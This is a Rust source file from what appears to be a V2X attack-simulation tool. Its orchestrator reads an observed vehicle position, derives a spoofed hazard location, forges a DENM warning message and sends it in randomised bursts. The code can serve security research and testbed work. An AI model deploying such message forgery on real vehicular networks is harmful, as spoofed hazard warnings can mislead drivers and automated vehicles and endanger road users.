/// Attack orchestration
///
/// Builds the forged DENM for a variant and drives the burst in its own task.
/// Requests are serialized: a second attack waits until the running burst
/// has finished. The burst task owns the lock, so a burst outlives a caller
/// that stops waiting for it.
use crate::attack_sim::forge::{self, DEFAULT_LATITUDE, DEFAULT_LONGITUDE};
use crate::attack_sim::{AttackVariant, BurstReport, Transport};
use crate::classifier::MessageCodec;
use crate::config::AttackSettings;
use crate::error::AttackError;
use crate::freshness::{MessageBuffers, ReadPolicy};
use crate::types::{V2xFrame, V2xMessage};
use chrono::Utc;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::sync::Arc;
use std::time::Duration;
use tokio::sync::Mutex;
use tracing::{info, warn};

pub struct AttackOrchestrator {
    transport: Arc<dyn Transport>,
    codec: Arc<dyn MessageCodec>,
    buffers: Arc<MessageBuffers>,
    settings: AttackSettings,
    read_policy: ReadPolicy,
    seed: Option<u64>,
    running: Arc<Mutex<()>>,
}

impl AttackOrchestrator {
    pub fn new(
        transport: Arc<dyn Transport>,
        codec: Arc<dyn MessageCodec>,
        buffers: Arc<MessageBuffers>,
        settings: AttackSettings,
    ) -> Self {
        Self {
            transport,
            codec,
            buffers,
            settings,
            read_policy: ReadPolicy::Blocking,
            seed: None,
            running: Arc::new(Mutex::new(())),
        }
    }

    /// How long a random-crash attack waits for a position fix
    pub fn with_read_policy(mut self, policy: ReadPolicy) -> Self {
        self.read_policy = policy;
        self
    }

    /// Deterministic inter-send delays
    pub fn with_seed(mut self, seed: u64) -> Self {
        self.seed = Some(seed);
        self
    }

    pub fn settings(&self) -> &AttackSettings {
        &self.settings
    }

    /// Run `variant` to completion. Returns `Ok(None)` for [`AttackVariant::NoAttack`].
    pub async fn run(&self, variant: AttackVariant) -> Result<Option<BurstReport>, AttackError> {
        let Some(sub_cause_code) = variant.sub_cause_code() else {
            info!(%variant, "no attack requested");
            return Ok(None);
        };

        let guard = Arc::clone(&self.running).lock_owned().await;

        let (latitude, longitude) = if variant.needs_position() {
            let cam = self
                .read_policy
                .read(&self.buffers.cam)
                .await
                .ok_or(AttackError::PositionUnavailable)?;
            let position = forge::spoofed_position(&cam, self.settings.offset_m);
            info!(
                observed_lat = cam.latitude,
                observed_lon = cam.longitude,
                heading = cam.heading_value,
                spoofed_lat = position.0,
                spoofed_lon = position.1,
                "derived spoofed event position"
            );
            position
        } else {
            (DEFAULT_LATITUDE, DEFAULT_LONGITUDE)
        };

        let denm = forge::forge_denm(sub_cause_code, latitude, longitude);
        let frame = self
            .codec
            .encode(&V2xMessage::Denm(denm), &self.settings.gn_address)?;

        let rng = match self.seed {
            Some(seed) => StdRng::seed_from_u64(seed),
            None => StdRng::from_entropy(),
        };
        let burst = Burst {
            transport: Arc::clone(&self.transport),
            frame,
            count: self.settings.burst_count,
            max_delay: self.settings.max_delay,
            rng,
        };

        info!(%variant, count = burst.count, "starting DENM burst");
        let report = tokio::spawn(async move {
            let _guard = guard;
            let start_time = Utc::now();
            let (attempts, send_failures) = burst.perform().await;
            let report = BurstReport {
                variant,
                start_time,
                end_time: Utc::now(),
                attempts,
                send_failures,
                latitude,
                longitude,
            };
            info!(
                %variant,
                sent = report.frames_sent(),
                failures = report.send_failures,
                duration_ms = report.duration_ms(),
                "DENM burst complete"
            );
            report
        })
        .await?;

        Ok(Some(report))
    }
}

struct Burst {
    transport: Arc<dyn Transport>,
    frame: V2xFrame,
    count: u32,
    max_delay: Duration,
    rng: StdRng,
}

impl Burst {
    /// Send `count` times with a uniform random pause in `[0, max_delay)`
    /// between sends. Failed sends are not retried.
    async fn perform(mut self) -> (u32, u32) {
        let mut failures = 0;
        for i in 0..self.count {
            if let Err(e) = self.transport.send(&self.frame).await {
                failures += 1;
                warn!(attempt = i + 1, error = %e, "forged DENM send failed");
            }

            if i + 1 < self.count {
                let pause = self.max_delay.mul_f64(self.rng.gen::<f64>());
                tokio::time::sleep(pause).await;
            }
        }
        (self.count, failures)
    }
}
